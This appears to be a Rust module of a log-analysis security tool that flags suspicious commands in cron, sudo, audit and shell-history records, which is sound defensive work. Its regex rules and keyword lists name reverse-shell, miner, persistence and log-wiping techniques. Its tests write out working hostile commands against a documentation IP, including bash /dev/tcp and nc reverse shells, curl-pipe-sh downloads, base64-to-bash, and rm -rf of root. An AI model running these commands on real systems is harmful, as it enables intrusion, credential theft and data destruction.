//! Command lines: what sudo, cron, the audit daemon, a shell's history or an application says was run.
//!
//! In: a record, or a command. Out: the sign that the command gives, the gravest if several. A
//! command is read as a person would: what is fetched *and* run, a shell *and* where it is tied to.
//! The same words in prose (`curl is not installed`) are no command, so outside of programs that
//! write commands only text with a shell's own marks is looked at.

use std::borrow::Cow;
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use jejak_protocol::EntityKind;
use regex::Regex;
use regex::bytes::{RegexSet, RegexSetBuilder};

use super::signs::Sign;
use super::text::{between, filled};
use super::{EventKind, Meaning, auth};
use crate::record::Record;
use crate::shape;

/// What a record of a program that writes commands says; None for every other program.
pub(super) fn classify<'a>(message: &'a str, record: &Record<'_>) -> Option<Meaning<'a>> {
    let program = record.process.rsplit('/').next().unwrap_or_default();
    match program.to_ascii_lowercase().as_str() {
        "cron" | "crond" | "cronie" | "anacron" | "fcron" => cron(message),
        "crontab" => crontab(message),
        "audit" | "auditd" | "audispd" | "kernel" if message.contains("audit(") => audit(message),
        "bash" | "sh" | "zsh" | "-bash" | "history" | "snoopy" | "auditbeat" | "execve" => {
            shell(message)
        }
        "" if message.starts_with("type=") => audit(message),
        _ => None,
    }
}

/// A command within the text of any other program: only with a shell's own marks around it.
pub(super) fn in_text<'a>(message: &'a str, record: &Record<'_>) -> Option<Meaning<'a>> {
    // Whether a line is looked at must not hang on masked words: all lines of a shape agree.
    if !may_hold_command(message) || !GATE.is_match(&shape::text(message)) {
        return None;
    }
    let sign = sign_of(message).filter(|_| !is_prose(message));
    let named = auth::names_only(message);
    Some(Meaning {
        kind: sign.map(|_| EventKind::Sign),
        sign,
        object: sign.map(|_| (EntityKind::Command, Cow::Borrowed(message.trim()))),
        depends_on_value: true,
        source: named.source.or_else(|| {
            record
                .source
                .as_ref()
                .map(|source| Cow::Owned(source.to_string()))
        }),
        user: named.user,
        ..Meaning::default()
    })
}

/// The gravest sign that a command gives.
pub(super) fn sign_of(command: &str) -> Option<Sign> {
    if command.len() < 4 || !STEMS.is_match(command) {
        return None;
    }
    // A megabyte of arguments says nothing more than its beginning.
    let end = command.floor_char_boundary(MAX_COMMAND_BYTES.min(command.len()));
    let command = command.get(..end).unwrap_or(command);
    let found = RULES.set.matches(command.as_bytes());
    let sign = found
        .iter()
        .filter_map(|idx| RULES.signs.get(idx))
        .min()
        .copied();
    sign.filter(|sign| !(*sign == Sign::DownloadRun && is_local(command)))
}

/// Bytes of a command that are read; chosen: longer than any that a person types.
const MAX_COMMAND_BYTES: usize = 8192;

/// `(root) CMD (run-parts /etc/cron.hourly)`, `(*system*) RELOAD (/etc/cron.d/x)`.
fn cron(message: &str) -> Option<Meaning<'_>> {
    if !message.starts_with('(') {
        return None;
    }
    let user = between(message, "(", ")").and_then(filled);
    let command = ["CMD (", "CMDOUT (", "CMDEND ("]
        .iter()
        .find_map(|mark| message.split_once(mark))
        .map(|(_, rest)| rest.strip_suffix(')').unwrap_or(rest).trim());
    let (sign, object) = match command {
        Some(command) => (sign_of(command), Some(command)),
        // A table that changed on disk; who changed it is not said.
        None if message.contains(") RELOAD (") => (Some(Sign::CronEntry), None),
        None => (None, None),
    };
    Some(told(sign, user, object))
}

/// `(budi) REPLACE (budi)`, `(root) BEGIN EDIT (root)`.
fn crontab(message: &str) -> Option<Meaning<'_>> {
    if !message.starts_with('(') {
        return None;
    }
    let user = between(message, "(", ")").and_then(filled);
    let is_change = message.contains(") REPLACE (");
    Some(told(is_change.then_some(Sign::CronEntry), user, None))
}

/// `HISTORY: PID=77 UID=1000 curl …`, `budi: curl …`, snoopy's `[uid:0 sid:1 tty: cwd:/ filename:/bin/x]: x y`.
fn shell(message: &str) -> Option<Meaning<'_>> {
    let command = match message.split_once("]: ") {
        Some((head, rest)) if head.starts_with('[') => rest,
        _ => message,
    };
    let user = between(message, "user=", " ").or_else(|| between(message, "username:", " "));
    Some(told(sign_of(command), user, Some(command)))
}

/// `type=EXECVE msg=audit(…): argc=3 a0="bash" a1="-c" a2="…"`, `type=PROCTITLE … proctitle=6261…`,
/// `type=SYSCALL … comm="chattr" exe="/usr/bin/chattr" key="…"`.
fn audit(message: &str) -> Option<Meaning<'_>> {
    let user = between(message, "acct=\"", "\"").or_else(|| between(message, "auid=", " "));
    let user = user.filter(|user| *user != "4294967295" && *user != "unset");
    if let Some(meaning) = audit_sign_in(message) {
        return Some(meaning);
    }
    let command = if message.contains("EXECVE") || message.contains(" a0=") {
        Some(arguments(message))
    } else {
        let title = message.split_once("proctitle=").map(|(_, rest)| rest);
        title.map(|title| decoded(title.split(' ').next().unwrap_or_default(), title))
    };
    if let Some(command) = command {
        let sign = sign_of(&command);
        return Some(Meaning {
            object: sign.map(|_| (EntityKind::Command, Cow::Owned(command))),
            ..told(sign, user, None)
        });
    }
    let sign = if message.contains("type=CONFIG_CHANGE") && message.contains("op=remove_rule")
        || message.contains("type=CONFIG_CHANGE") && message.contains("audit_enabled=0")
        || message.contains("type=DAEMON_END")
    {
        Some(Sign::SecurityOff)
    } else if message.contains("type=ANOM_ABEND") {
        Some(Sign::Crash)
    } else {
        return None;
    };
    Some(told(sign, user, Some(message)))
}

/// `type=USER_AUTH … msg='op=PAM:authentication acct="root" … addr=203.0.113.9 … res=failed'`.
fn audit_sign_in(message: &str) -> Option<Meaning<'_>> {
    const TYPES: [&str; 4] = ["USER_AUTH ", "USER_LOGIN ", "USER_ERR ", "USER_ACCT "];
    if !TYPES.iter().any(|kind| message.contains(kind)) {
        return None;
    }
    let source = between(message, " addr=", " ").filter(|addr| *addr != "?");
    let is_failed = message.contains("res=failed");
    // A sign-in is told once for each layer that let it through: only the last one counts.
    let is_in = message.contains("USER_LOGIN ") && message.contains("res=success");
    let kind = match (is_failed, is_in, source) {
        (true, _, Some(_)) => Some(EventKind::AuthFailure),
        (_, true, Some(_)) => Some(EventKind::AuthSuccess),
        _ => None,
    };
    Some(Meaning {
        kind,
        source: source.map(Cow::Borrowed),
        user: between(message, "acct=\"", "\"")
            .and_then(filled)
            .map(Cow::Borrowed),
        depends_on_value: true,
        ..Meaning::default()
    })
}

/// The arguments of an EXECVE record as one line.
fn arguments(message: &str) -> String {
    static ARGUMENT: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(r#"\ba\d+(?:\[\d+\])?=(?:"([^"]*)"|([0-9A-Fa-f]+))"#).expect("a constant")
    });
    let mut line = String::new();
    for found in ARGUMENT.captures_iter(message) {
        if !line.is_empty() {
            line.push(' ');
        }
        match (found.get(1), found.get(2)) {
            (Some(text), _) => line.push_str(text.as_str()),
            (None, Some(hex)) => line.push_str(&decoded(hex.as_str(), hex.as_str())),
            (None, None) => {}
        }
    }
    line
}

/// Text that the audit daemon wrote as hexadecimal, NUL between arguments; else as it is.
fn decoded(hex: &str, plain: &str) -> String {
    let is_hex = hex.len() >= 4
        && hex.len().is_multiple_of(2)
        && hex.bytes().all(|byte| byte.is_ascii_hexdigit());
    if !is_hex {
        return plain.trim_matches('"').to_owned();
    }
    let digit = |byte: u8| char::from(byte).to_digit(16).unwrap_or(0) as u8;
    let bytes: Vec<u8> = hex
        .as_bytes()
        .chunks_exact(2)
        .map(|pair| match pair {
            [high, low] => digit(*high) << 4 | digit(*low),
            _ => b' ',
        })
        .map(|byte| if byte == 0 { b' ' } else { byte })
        .collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn told<'a>(sign: Option<Sign>, user: Option<&'a str>, object: Option<&'a str>) -> Meaning<'a> {
    Meaning {
        kind: sign.map(|_| EventKind::Sign),
        sign,
        user: user.and_then(filled).map(Cow::Borrowed),
        object: object
            .filter(|_| sign.is_some())
            .map(|command| (EntityKind::Command, Cow::Borrowed(command))),
        depends_on_value: true,
        ..Meaning::default()
    }
}

/// Bytes that every command worth a look has, and most messages lack one of.
fn may_hold_command(message: &str) -> bool {
    message.len() >= 8 && memchr::memchr3(b'|', b'-', b'>', message.as_bytes()).is_some()
        || message.contains("chattr")
}

/// Constant words of which a command in foreign text has at least one.
static GATE: LazyLock<AhoCorasick> = LazyLock::new(|| {
    automaton(&[
        "curl",
        "wget",
        "bash",
        "sh -",
        "nc -",
        "ncat",
        "socat",
        "perl",
        "python",
        "php -",
        "powershell",
        "chattr",
        "chmod",
        "rm -",
        "crontab",
        "authorized_keys",
        "history -",
        "stratum",
        "xmrig",
        "minerd",
        "base",
        "eval",
        "mkfifo",
        "insmod",
        "useradd",
        "| sh",
        "|sh",
        "echo ",
        "shred ",
        "openssl s_client",
        "telnet ",
        "ruby -",
        "lua -",
        "ufw ",
        "iptables ",
        "setenforce",
        "auditctl",
    ])
});

/// Words of which every rule below needs one.
static STEMS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    automaton(&[
        "curl",
        "wget",
        "/dev/tcp",
        "/dev/udp",
        "nc ",
        "ncat",
        "netcat",
        "socat",
        "python",
        "perl",
        "php",
        "ruby",
        "powershell",
        "base64",
        "xxd",
        "eval",
        "mkfifo",
        "xmrig",
        "minerd",
        "stratum",
        "cpuminer",
        "kinsing",
        "kdevtmpfsi",
        "nicehash",
        "cryptonight",
        "authorized_keys",
        "crontab",
        "/etc/cron",
        "/var/spool/cron",
        "ld.so.preload",
        "ld_preload",
        "rc.local",
        "/etc/init.d",
        "/etc/profile",
        ".bashrc",
        ".profile",
        ".bash_profile",
        "/etc/systemd",
        "insmod",
        "modprobe",
        "rm ",
        "shred",
        "wipe",
        "unlink",
        "chattr",
        "chmod",
        "setfacl",
        "chown",
        "/etc/passwd",
        "/etc/shadow",
        "/etc/sudoers",
        "/etc/ssh",
        "/etc/pam",
        "/etc/hosts",
        "/usr/bin",
        "/usr/sbin",
        "/bin/",
        "/sbin/",
        "/boot",
        "/lib",
        "/tmp/",
        "/dev/shm",
        "/var/tmp",
        "/var/log",
        "wtmp",
        "btmp",
        "lastlog",
        "history",
        "histfile",
        "histsize",
        "journalctl",
        "setenforce",
        "ufw",
        "iptables",
        "nft ",
        "firewalld",
        "auditd",
        "auditctl",
        "auditbeat",
        "rsyslog",
        "syslog",
        "fail2ban",
        "apparmor",
        "clamav",
        "dd ",
        "mkfs",
        "lwp-download",
        "tftp",
        "fetch",
        "telnet",
        "openssl",
        "wevtutil",
        "vssadmin",
        "certutil",
        "iex",
        "shadow",
        "find ",
        "truncate",
        "cat /dev/null",
    ])
});

fn automaton(words: &[&str]) -> AhoCorasick {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(words)
        .expect("a few dozen short words make a small automaton")
}

/// Text about a command rather than a command: an error of a shell or a package manager, a manual.
fn is_prose(message: &str) -> bool {
    static PROSE: LazyLock<Regex> = LazyLock::new(|| {
        Regex::new(
            r"(?i)\b(?:command not found|no such file|not installed|is already installed|unable to locate|usage:|unpacking|setting up|selecting previously|status (?:half-)?installed|deprecated|example)\b",
        )
        .expect("a constant")
    });
    PROSE.is_match(message)
}

/// Fetching from the machine itself is a health check.
fn is_local(command: &str) -> bool {
    let is_from = |mark: &str| {
        command.match_indices(mark).any(|(at, _)| {
            let host = command.get(at + mark.len()..).unwrap_or_default();
            !["127.", "localhost", "[::1]"]
                .iter()
                .any(|own| host.starts_with(own))
        })
    };
    command.contains("://") && !is_from("://")
}

struct Rules {
    set: RegexSet,
    signs: Vec<Sign>,
}

static RULES: LazyLock<Rules> = LazyLock::new(|| {
    const SHELL: &str = r"(?:/(?:usr/)?bin/)?(?:ba|z|k|c|tc|da|a)?sh";
    const RUNNER: &str = r"(?:/(?:usr/)?bin/)?(?:(?:ba|z|k|c|da|a)?sh|python[\d.]*|perl|php\d?|ruby|node|sudo(?: -\S+)* (?:ba)?sh)";
    const FETCH: &str = r"(?:curl|wget|lwp-download|lynx|fetch|tftp|ftpget|aria2c)";
    const TEMP: &str = r"/(?:tmp|var/tmp|dev/shm|run/shm)/";
    // What writes to the file that follows: a redirect, an editor without a screen, a copy.
    const WRITE: &str = r"(?:>{1,2}\s*|\btee\s+(?:-a\s+)?|\b(?:cp|mv|install|ln|rsync|scp)\s[^|;&]*\s|\bsed\s+(?:-\S*\s+)*-i\S*\s[^|;&]*|\b(?:vi|vim|nano|ed|emacs|pico)\s+(?:-\S+\s+)*)";
    let rules: Vec<(Sign, String)> = vec![
        (Sign::ReverseShell, r"/dev/(?:tcp|udp)/[\w.$\{:-]+/\S+".to_owned()),
        (Sign::ReverseShell, format!(r"\b(?:nc|ncat|netcat)(?:\.\w+)?\s[^|;]*(?:-\w*[ec]\s*{SHELL}\b|--(?:sh-)?exec\b)")),
        (Sign::ReverseShell, r"\bmkfifo\s.*\b(?:nc|ncat|netcat|telnet|openssl)\b|\bmknod\s\S+\s+p\b.*\b(?:nc|telnet)\b".to_owned()),
        (Sign::ReverseShell, r"\bsocat\s.*\b(?:exec|system):".to_owned()),
        (Sign::ReverseShell, r"\b(?:python[\d.]*|perl|php\d?|ruby|lua|node|awk|gawk)\b.{0,300}(?:socket|fsockopen|TCPSocket|/inet/tcp|net\.connect).{0,400}(?:connect|exec|dup2|spawn|open|/bin/|sh -i|cmd)".to_owned()),
        (Sign::ReverseShell, format!(r"\b{SHELL}\s+-i\b[^|;]*(?:>&|<&|\d>&)\s*\S")),
        (Sign::ReverseShell, r"\btelnet\s+\S+\s+\d+\s*\|\s*(?:/bin/)?\w*sh\b".to_owned()),
        (Sign::Miner, r"\bstratum\+?(?:tcp|ssl|tls|udp)?://|\b(?:xmrig|xmr-stak|minerd|cpuminer|ccminer|cgminer|bfgminer|kinsing|kdevtmpfsi|nicehash|cryptonight|ethminer|nbminer|t-rex miner|lolminer|xmr\.pool|minexmr|supportxmr|nanopool|moneroocean)\b|--donate-level\b".to_owned()),
        // fetched and run
        (Sign::DownloadRun, format!(r"\b{FETCH}\s+[^;|\s][^;|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S+\s+)*)?{RUNNER}\b")),
        (Sign::DownloadRun, format!(r"\b{SHELL}\s+(?:-\w+\s+)*(?:<\(|\x22?\$\(|`)\s*{FETCH}\b")),
        (Sign::DownloadRun, format!(r"\b{FETCH}\b.*(?:;|&&|\|\|)\s*(?:sudo\s+)?chmod\s+(?:-\S+\s+)*(?:[0-7]*[1357][0-7]*|[ugoa]*\+\w*x\w*)\s")),
        (Sign::DownloadRun, format!(r"\b{FETCH}\b.*(?:;|&&)\s*(?:sudo\s+)?(?:{SHELL}|python[\d.]*|perl)\s+(?:-\S+\s+)*(?:\./|{TEMP})?[\w.-]+")),
        (Sign::DownloadRun, format!(r"\b{FETCH}\b.*(?:;|&&)\s*(?:sudo\s+|nohup\s+)?(?:\./|{TEMP})\S+")),
        (Sign::DownloadRun, r"(?i)\b(?:iex|invoke-expression)\b.*(?:downloadstring|iwr|invoke-webrequest|curl|webclient)|downloadstring\(.*\)\s*\|\s*iex|\bcertutil\S*\s.*-urlcache\b|\bbitsadmin\s.*/transfer\b|\bmshta\s+\S*https?:".to_owned()),
        (Sign::DownloadRun, format!(r"\b(?:{FETCH})\s(?:[^|;&]*\s)?(?:-o|-O|-P|--output|--output-document[= ])\s*{TEMP}\S*")),
        // encoded
        (Sign::EncodedCommand, format!(r"\bbase64\s+(?:-\S+\s+)*(?:-d|-D|--decode)\b[^;]*\|\s*(?:sudo\s+)?{RUNNER}\b")),
        (Sign::EncodedCommand, format!(r"\b(?:xxd\s+-r|openssl\s+(?:enc\s|base64\s+-d)|rev|tr\s|uudecode|gunzip|zcat)[^;|]*\|\s*(?:sudo\s+)?{RUNNER}\s*(?:$|[;&])")),
        (Sign::EncodedCommand, format!(r"\b(?:eval|{SHELL}\s+-c)\s+[\x22']?(?:\$\(|`)[^)`]*\b(?:base64|xxd|openssl|printf|echo -e)\b")),
        (Sign::EncodedCommand, r"(?i)\bpowershell(?:\.exe)?\s.*-e(?:nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{16,}".to_owned()),
        (Sign::EncodedCommand, r"\b(?:python[\d.]*|perl|php\d?|ruby)\s+-\w*[ecr]\s.{0,200}(?:b64decode|base64_decode|decode_base64|fromhex|pack\()".to_owned()),
        // started from a folder that anyone can write to
        (Sign::RunFromTemp, format!(r"(?:^|[;&|]\s*|\bnohup\s+|\bsudo\s+|\bsetsid\s+|\b{SHELL}\s+(?:-\w+\s+)?|\bchmod\s+(?:[0-7]*[1357][0-7]*|[ugoa]*\+\w*x\w*)\s+){TEMP}\.?[\w.-]+")),
        // staying
        (Sign::Preload, r"/etc/ld\.so\.preload|\bLD_PRELOAD=/(?:tmp|var/tmp|dev/shm|home)".to_owned()),
        (Sign::AuthorizedKeys, format!(r"{WRITE}\S*authorized_keys2?\b|\bssh-copy-id\b|\bssh_authorized_keys\b")),
        (Sign::AuthorizedKeys, r"\b(?:chmod|chown|chattr|touch)\s[^;|]*authorized_keys2?\b".to_owned()),
        (Sign::KernelModule, r"(?:^|[;&|/]\s*|\bsudo\s+)(?:s?bin/)?insmod\s+\S+\.ko|\bmodprobe\s+/\S+\.ko".to_owned()),
        (Sign::StartupFile, format!(r"{WRITE}\S*(?:/etc/rc\.local|/etc/rc\d?\.d/\S+|/etc/init\.d/\S+|/etc/profile(?:\.d/\S+)?|/\.(?:bashrc|bash_profile|profile|zshrc|bash_login)|/etc/bash\.bashrc|/etc/update-motd\.d/\S+|/etc/xdg/autostart/\S+)(?:\s|$|[;&|'\x22)])")),
        (Sign::ServiceUnit, format!(r"{WRITE}\S*/(?:etc|lib|usr/lib)/systemd/(?:system|user)/\S+\.(?:service|timer|path|socket)|{WRITE}\S*/\.config/systemd/user/\S+")),
        (Sign::CronEntry, format!(r"{WRITE}\S*(?:/etc/cron(?:tab|\.\w+)|/var/spool/cron)\S*|\|\s*(?:sudo\s+)?crontab\s+(?:-u\s+\S+\s+)?-(?:\s|$|[;&|'\x22)])|\bcrontab\s+(?:-u\s+\S+\s+)?(?:/|\./)\S+|\bcrontab\s+(?:-u\s+\S+\s+)?<")),
        // hiding
        (Sign::LogCleared, r"\b(?:rm|shred|unlink|wipe|srm|truncate)\s+(?:[^;|&]*\s)?\S*(?:/var/log(?:/|\s|$)|/var/run/utmp|\bwtmp\b|\bbtmp\b|\blastlog\b|/var/adm/)|(?:^|[\s;|&(]|/dev/null\s*|:\s*|\becho\s+(?:-n\s+)?(?:''|\x22\x22)?\s*|-c\s+['\x22]\s*)>\s*/var/log/\S+|\bcp\s+/dev/null\s+/var/log/|\bjournalctl\s+(?:\S+\s+)*--vacuum-(?:time|size)=[01]?(?:s|m|sec|min|k|K|M)?\b|\bwevtutil(?:\.exe)?\s+(?:cl|clear-log)\b|\bln\s+-\w*\s*/dev/null\s+/var/log/|\bdd\s+if=/dev/(?:null|zero)\s+of=/var/log/".to_owned()),
        (Sign::HistoryCleared, r"\bhistory\s+-\w*[cw]\w*\b|\bunset\s+HIST(?:FILE|ORY|SIZE)\b|\b(?:export\s+|set\s+)?HIST(?:FILE|SIZE|FILESIZE)=(?:/dev/null|0|\s|$)|\b(?:rm|shred|unlink|ln|truncate|cp /dev/null)\s[^;|]*\.(?:bash|zsh|sh|mysql|python)_history\b|>\s*\S*\.(?:bash|zsh|sh)_history\b|\bset\s+\+o\s+history\b".to_owned()),
        (Sign::SecurityOff, r"\bsetenforce\s+(?:0|permissive)\b|\bSELINUX=(?:disabled|permissive)\b|\bufw\s+(?:--force\s+)?(?:disable|reset)\b|\b(?:iptables|ip6tables)\s+(?:-t\s+\w+\s+)?(?:-F|--flush|-X|-P\s+INPUT\s+ACCEPT)\b|\bnft\s+flush\s+ruleset\b|\bauditctl\s+-(?:e\s*0|D)\b|\b(?:systemctl\s+(?:--now\s+)?(?:stop|disable|mask|kill)(?:\s+--now)?|service)\s+(?:\S+\s+)*(?:auditd|rsyslog|syslog(?:-ng)?|systemd-journald|firewalld|ufw|iptables|nftables|fail2ban|apparmor|clamav\S*|falcon-sensor|ossec\S*|wazuh\S*|crowdsec\S*|osqueryd|sysmon)(?:\.service)?(?:\s*$|\s+stop\b|\s*[;&|]|\s)|\b(?:pkill|killall)\s+(?:-\S+\s+)*(?:auditd|rsyslogd?|syslogd|fail2ban\S*|clamd|osqueryd|wazuh\S*)|\bupdate-rc\.d\s+(?:-f\s+)?(?:auditd|rsyslog|fail2ban)\s+(?:remove|disable)".to_owned()),
        // files
        (Sign::CredentialRead, r"\b(?:cat|less|more|head|tail|grep|awk|sed -n|strings|xxd|od|base64|cp|scp|curl|nc|tar|rsync|vim?|nano|dd if=|unshadow|john)\b[^;|]*/etc/(?:g?shadow-?|master\.passwd)(?:\s|$|[;&|'\x22)])|\b(?:mimikatz|secretsdump|procdump\S*\s.*lsass|hashdump|lazagne)\b|\bunshadow\b".to_owned()),
        (Sign::Setuid, r"\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*[+=][rwxtX]*s[rwxtX]*|0?[4267][0-7]{3})\s+\S*|\bsetcap\s+\S*cap_(?:setuid|sys_admin|dac_override|sys_ptrace)\S*".to_owned()),
        (Sign::SystemPath, format!(r"{WRITE}/etc/(?:passwd|shadow|group|gshadow|sudoers(?:\.d/\S*)?|ssh/sshd_config(?:\.d/\S*)?|pam\.d/\S+|hosts\.(?:allow|deny)|nsswitch\.conf|security/\S+)(?:\s|$|[;&|'\x22)])")),
        (Sign::SystemPath, r"(?:>{1,2}\s*|\btee\s+(?:-a\s+)?|\b(?:cp|mv|ln|dd)\s[^|;&]*\s(?:of=)?)/(?:usr/)?s?bin/[\w.-]+(?:\s*$|\s*[;&|'\x22)])|\b(?:cp|mv)\s[^|;&]*\s/(?:boot|lib|lib64|usr/lib)/\S*(?:\s*$|\s*[;&|])|\bchattr\s[^;|]*/(?:usr/)?s?bin/".to_owned()),
        (Sign::MassDelete, r"\brm\s+(?:-\S+\s+)*-\w*[rR]\w*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+\S+|/\s*(?:$|[;&|*'\x22])|/\*|/(?:etc|home|var|usr|boot|root|srv|opt|lib|bin|sbin|var/www|var/lib|var/lib/mysql|home/[\w.-]+|srv/[\w.-]+)(?:/|/\*)?(?:\s*$|\s*[;&|'\x22)]|\s+\S))|\bshred\s+(?:-\S+\s+)*/(?:etc|home|var|srv|root|dev/[shv]d)|\bfind\s+/\S*\s.*(?:-delete\b|-exec\s+(?:rm|shred)\b)|\bdd\s+(?:\S+\s+)*if=/dev/(?:zero|urandom|random)\s+(?:\S+\s+)*of=/dev/[shvn]|\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/|\bwipefs\s+-\w*a|\bvssadmin(?:\.exe)?\s+delete\s+shadows|\bwbadmin\s+delete\b".to_owned()),
        (Sign::Immutable, r"\bchattr\s+(?:-\w+\s+)*[+-=]\w*[ia]\w*\s+\S".to_owned()),
        (Sign::OpenPermissions, r"\bchmod\s+(?:-\S+\s+)*(?:0?[0-7]?[0-7]?[2367][2367]|0?777|[ugo]*a[ugo]*\+\w*w\w*|o\+\w*w\w*|ugo\+\w*w\w*)\s+(?:-\S+\s+)*/?\S|\bsetfacl\s.*\bo:+\w*w".to_owned()),
    ];
    let (signs, patterns): (Vec<Sign>, Vec<String>) = rules.into_iter().unzip();
    // Bytes, not characters: Unicode classes make the automaton many times as large.
    let set = RegexSetBuilder::new(patterns)
        .unicode(false)
        .size_limit(64 << 20)
        .dfa_size_limit(8 << 20)
        .build()
        .expect("the patterns are constants, compiled by every test");
    Rules { set, signs }
});

#[cfg(test)]
mod tests {
    use super::*;

    fn check(cases: &[(&str, Option<Sign>)]) {
        for (command, expect) in cases {
            assert_eq!(sign_of(command), *expect, "{command}");
        }
    }

    #[test]
    fn what_runs_foreign_programs() {
        check(&[
            (
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
                Some(Sign::ReverseShell),
            ),
            ("nc -e /bin/sh 203.0.113.9 4444", Some(Sign::ReverseShell)),
            (
                "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
                Some(Sign::ReverseShell),
            ),
            (
                "python3 -c 'import socket,os;s=socket.socket();s.connect((\"203.0.113.9\",1));os.dup2(s.fileno(),0)'",
                Some(Sign::ReverseShell),
            ),
            (
                "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333",
                Some(Sign::Miner),
            ),
            (
                "curl -fsSL http://203.0.113.9/i.sh | sh",
                Some(Sign::DownloadRun),
            ),
            (
                "wget -q -O - http://203.0.113.9/i.sh|bash -s x",
                Some(Sign::DownloadRun),
            ),
            (
                "sh -c \"$(curl -fsSL http://203.0.113.9/i)\"",
                Some(Sign::DownloadRun),
            ),
            (
                "cd /tmp; wget http://203.0.113.9/a; chmod +x a; ./a",
                Some(Sign::DownloadRun),
            ),
            ("echo aWQK | base64 -d | bash", Some(Sign::EncodedCommand)),
            (
                "powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A",
                Some(Sign::EncodedCommand),
            ),
            ("/tmp/.hidden/run", Some(Sign::RunFromTemp)),
            ("curl -s http://127.0.0.1:8080/health | sh", None),
            ("curl -s https://example.org/status.json", None),
            ("base64 -d cert.b64 > cert.pem", None),
            ("/usr/bin/python3 /srv/app/manage.py", None),
            ("nc -z db.example 5432", None),
            ("tar czf /tmp/backup.tgz /srv", None),
            ("ls /tmp/", None),
        ]);
    }

    #[test]
    fn what_stays() {
        check(&[
            (
                "tee -a /root/.ssh/authorized_keys",
                Some(Sign::AuthorizedKeys),
            ),
            (
                "sh -c echo ssh-rsa AAAA >> /home/budi/.ssh/authorized_keys",
                Some(Sign::AuthorizedKeys),
            ),
            ("cp /tmp/job /etc/cron.d/job", Some(Sign::CronEntry)),
            ("tee /etc/cron.d/job", Some(Sign::CronEntry)),
            ("(crontab -l; echo x) | crontab -", Some(Sign::CronEntry)),
            ("tee /etc/systemd/system/x.service", Some(Sign::ServiceUnit)),
            ("tee -a /etc/ld.so.preload", Some(Sign::Preload)),
            ("insmod /root/x.ko", Some(Sign::KernelModule)),
            ("tee -a /etc/rc.local", Some(Sign::StartupFile)),
            ("cat /etc/cron.d/job", None),
            ("crontab -l", None),
            ("systemctl restart nginx", None),
            ("cat /root/.ssh/authorized_keys", None),
            ("run-parts --report /etc/cron.hourly", None),
            ("cd / && run-parts --report /etc/cron.hourly", None),
            ("command -v debian-sa1 > /dev/null && debian-sa1 1 1", None),
            (
                "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                None,
            ),
        ]);
    }

    #[test]
    fn what_hides_and_what_changes_files() {
        check(&[
            ("rm -rf /var/log/auth.log", Some(Sign::LogCleared)),
            ("sh -c '> /var/log/wtmp'", Some(Sign::LogCleared)),
            ("history -c", Some(Sign::HistoryCleared)),
            ("ufw disable", Some(Sign::SecurityOff)),
            ("systemctl stop auditd", Some(Sign::SecurityOff)),
            ("cat /etc/shadow", Some(Sign::CredentialRead)),
            ("chmod u+s /bin/bash", Some(Sign::Setuid)),
            ("chmod 4755 /opt/x", Some(Sign::Setuid)),
            ("tee -a /etc/sudoers", Some(Sign::SystemPath)),
            ("mv /srv/x /usr/bin/ls", Some(Sign::SystemPath)),
            ("rm -rf /home/", Some(Sign::MassDelete)),
            ("rm -rf --no-preserve-root /", Some(Sign::MassDelete)),
            ("chattr +i /etc/passwd", Some(Sign::Immutable)),
            ("chmod -R 777 /var/www", Some(Sign::OpenPermissions)),
            ("chmod 755 /srv/app/run", None),
            ("chmod 644 /etc/nginx/nginx.conf", None),
            ("rm -rf /srv/app/cache/tmp", None),
            ("rm /home/budi/note.txt", None),
            ("ufw status", None),
            ("systemctl restart rsyslog", None),
            ("tail -f /var/log/auth.log", None),
            ("cat /etc/passwd", None),
            ("less /var/log/syslog", None),
            ("gzip /var/log/old.log", None),
        ]);
    }

    fn meaning_of(process: &'static str, message: &'static str) -> (Option<Sign>, Option<String>) {
        let record = Record {
            process: process.into(),
            message: message.into(),
            repeats: 1,
            ..Record::default()
        };
        let meaning = super::super::classify(&record);
        (meaning.sign, meaning.user.map(Cow::into_owned))
    }

    #[test]
    fn programs_that_write_commands() {
        for (process, message, sign, user) in [
            (
                "CRON",
                "(root) CMD (curl -s http://203.0.113.9/x | sh)",
                Some(Sign::DownloadRun),
                Some("root"),
            ),
            (
                "CRON",
                "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)",
                None,
                Some("root"),
            ),
            (
                "crontab",
                "(budi) REPLACE (budi)",
                Some(Sign::CronEntry),
                Some("budi"),
            ),
            ("crontab", "(budi) LIST (budi)", None, Some("budi")),
            (
                "cron",
                "(*system*) RELOAD (/etc/cron.d/x)",
                Some(Sign::CronEntry),
                Some("*system*"),
            ),
            (
                "audispd",
                "type=EXECVE msg=audit(1:2): argc=3 a0=\"sh\" a1=\"-c\" a2=6375726C20687474703A2F2F782F61207C207368",
                Some(Sign::DownloadRun),
                None,
            ),
            (
                "",
                "type=PROCTITLE msg=audit(1:2): proctitle=636861747472002B69002F6574632F706173737764",
                Some(Sign::Immutable),
                None,
            ),
            (
                "",
                "type=PROCTITLE msg=audit(1:2): proctitle=6C73002D6C",
                None,
                None,
            ),
            (
                "app",
                "root@web:~# curl -s http://203.0.113.9/x.sh | bash",
                Some(Sign::DownloadRun),
                None,
            ),
            (
                "app",
                "bash: curl: command not found | see example",
                None,
                None,
            ),
            ("app", "curl | sh is a bad idea", None, None),
            ("app", "wget finished - 12 files", None, None),
            (
                "sudo",
                "budi : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /root/.ssh/authorized_keys",
                Some(Sign::AuthorizedKeys),
                Some("budi"),
            ),
        ] {
            let user = user.map(str::to_owned);
            assert_eq!(meaning_of(process, message), (sign, user), "{message}");
        }
    }
}
